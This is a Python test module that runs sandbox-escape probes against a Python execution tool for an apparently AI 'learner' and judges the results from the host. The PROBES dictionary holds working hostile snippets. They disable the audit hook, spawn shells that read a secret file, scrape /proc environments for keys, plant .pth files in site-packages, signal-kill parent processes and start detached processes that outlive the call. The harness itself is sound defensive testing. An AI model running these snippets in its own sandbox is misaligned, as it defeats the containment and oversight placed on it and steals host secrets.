"""Sandbox escape probes: code an attacker would hand the Python tool, each judged from outside.

Every probe first switches off the in-process guard (the audit hook's deny list, or the hook itself), as
hostile code can, and then tries to reach what the boundary must keep from it: a secret in the learner's
environment and files, a TCP listener on the host's loopback, a directory it must not write, the learner's
processes (a sacrificial `sleep` stands in for the learner), the time limit and the output bound. The judge
is the host's own view (the listener's connections, the files, the processes, the clock), not what the
probe prints. Used by tests/test_sandbox.py and by benchmarks/faults.py.
"""
from __future__ import annotations

import os
import resource
import secrets
import socket
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

from secondnature.sandbox import Limits, run_python

UNHOOK = "import sys\nsys.modules['__main__']._BLOCKED = ()\n"

PROBES: dict[str, str] = {
    # the guard walked around: a fresh interpreter from multiprocessing's spawn context runs os.system
    "spawn_context": UNHOOK + (
        "import multiprocessing as mp, os\n"
        "p = mp.get_context('spawn').Process(target=os.system, args=('cat {secret_file}; echo x > {target}/spawn',))\n"
        "p.start(); p.join()\n"),
    # fork_exec without an audit event
    "spawnv_passfds": (
        "import multiprocessing.util as u\n"
        "u.spawnv_passfds(b'/bin/sh', [b'/bin/sh', b'-c', b'cat {secret_file}; echo x > {target}/sh'], ())\n"
        "import time; time.sleep(1)\n"),
    # the deny list emptied, then the host's loopback listener
    "deny_list_emptied": UNHOOK + (
        "import socket\n"
        "for host in {hosts!r}:\n"
        "    try:\n"
        "        socket.create_connection((host, {port}), timeout=2).sendall(b'escaped')\n"
        "    except OSError as e:\n"
        "        print(host, e)\n"),
    # the hook found with gc and its code replaced, then ctypes to signal the learner
    "hook_code_replaced": (
        "import gc, sys\n"
        "for f in gc.get_objects():\n"
        "    if getattr(f, '__name__', '') == '_guard' and hasattr(f, '__code__'):\n"
        "        f.__code__ = (lambda event, args: None).__code__\n"
        "import ctypes\n"
        "libc = ctypes.CDLL(None)\n"
        "print('kill', libc.kill({victim}, 9))\n"),
    # the learner's parent signalled through a pidfd, and the victim by its host pid
    "signal_parent": UNHOOK + (
        "import os, signal\n"
        "for pid in (os.getppid(), {victim}, 1):\n"
        "    try:\n"
        "        signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)\n"
        "    except OSError as e:\n"
        "        print(pid, e)\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError as e:\n"
        "        print(pid, e)\n"),
    # secrets: every process's environment, the learner's files and home
    "read_secrets": UNHOOK + (
        "import glob, os, re\n"
        "seen = str(dict(os.environ))\n"
        "for p in glob.glob('/proc/*/environ') + ['{secret_file}', os.path.expanduser('~/.bashrc')]:\n"
        "    try:\n"
        "        seen += open(p, 'rb').read().decode('latin-1')\n"
        "    except OSError as e:\n"
        "        print(p, e)\n"
        "print(sorted(set(re.findall('sn-secret-[0-9a-f]+', seen))))\n"),
    # writes outside: the target directory (a store lives in one), a .pth in every site directory
    "write_outside": UNHOOK + (
        "import site, sys, os\n"
        "for d in ['{target}'] + site.getsitepackages() + [sys.prefix, sys.base_prefix, '/usr/lib']:\n"
        "    try:\n"
        "        open(os.path.join(d, '{marker}.pth'), 'w').write('import os')\n"
        "        print('wrote', d)\n"
        "    except OSError as e:\n"
        "        print(d, e)\n"),
    # a process in a new session that holds the output pipes and outlives the call
    "outlive_the_call": UNHOOK + (
        "import os, sys\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)  # {marker}'])\n"
        "print('parent done')\n"),
    # an output flood: must be read as it comes and cut, never held whole
    "output_flood": "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n",
}


@dataclass(frozen=True)
class Verdict:
    probe: str
    escaped: bool
    why: str
    seconds: float


class _Listener:
    """A TCP listener on the host's loopback that counts connections."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port, self.hits, self.done = self.sock.getsockname()[1], 0, False
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while not self.done:
            try:
                self.sock.accept()[0].close()
                self.hits += 1
            except OSError:
                pass

    def close(self):
        self.done = True
        self.sock.close()


def _host_addresses() -> list[str]:
    try:
        return sorted({"127.0.0.1", socket.gethostbyname(socket.gethostname())})
    except OSError:
        return ["127.0.0.1"]


def _alive(marker: str) -> bool:
    out = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    return any(marker in line for line in out.splitlines() if "ps -eo" not in line)


def run_probe(name: str, limits: Limits = Limits(wall_s=5.0, cpu_s=3, output_chars=2000)) -> Verdict:
    """Run one probe against the sandbox with a secret planted in this process and on disk; judge from outside."""
    secret, marker = "sn-secret-" + secrets.token_hex(8), "sn-probe-" + secrets.token_hex(6)
    os.environ["SN_PROBE_API_KEY"] = secret
    home = Path(tempfile.mkdtemp(prefix="sn-probe-host-"))
    (home / "secret.txt").write_text(secret)
    target = home / "target"
    target.mkdir()
    victim = subprocess.Popen(["sleep", "60"])
    listener = _Listener()
    code = PROBES[name].format(secret_file=home / "secret.txt", target=target, port=listener.port, victim=victim.pid,
                               marker=marker, hosts=_host_addresses())
    rss0 = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    t0 = time.monotonic()
    try:
        r = run_python(code, limits)
    finally:
        seconds = time.monotonic() - t0
        time.sleep(0.3)
        listener.close()
        del os.environ["SN_PROBE_API_KEY"]
    text = r.stdout + r.stderr
    found = {
        "secret in the output": secret in text,
        "a connection to the host": listener.hits > 0,
        "a file written outside": any(target.iterdir()) or _pth_planted(marker),
        "the learner's process killed": victim.poll() is not None,
        "a process outlived the call": _alive(marker),
        "the call ran past its time limit": seconds > limits.wall_s + 3,
        "output held whole": len(r.stdout) > 3 * limits.output_chars
        or resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss0 > 200_000,
    }
    victim.kill()
    subprocess.run(["pkill", "-f", marker], capture_output=True)
    escaped = [k for k, v in found.items() if v]
    return Verdict(name, bool(escaped), ", ".join(escaped) or "held: " + (r.stderr or r.stdout)[-160:].strip(), seconds)


def _pth_planted(marker: str) -> bool:
    import site
    dirs = site.getsitepackages() + [sys.prefix, sys.base_prefix, "/usr/lib"]
    hit = False
    for d in dirs:
        p = Path(d) / f"{marker}.pth"
        if p.exists():
            hit = True
            p.unlink()
    return hit


def run_all(limits: Limits = Limits(wall_s=5.0, cpu_s=3, output_chars=2000)) -> list[Verdict]:
    return [run_probe(name, limits) for name in PROBES]
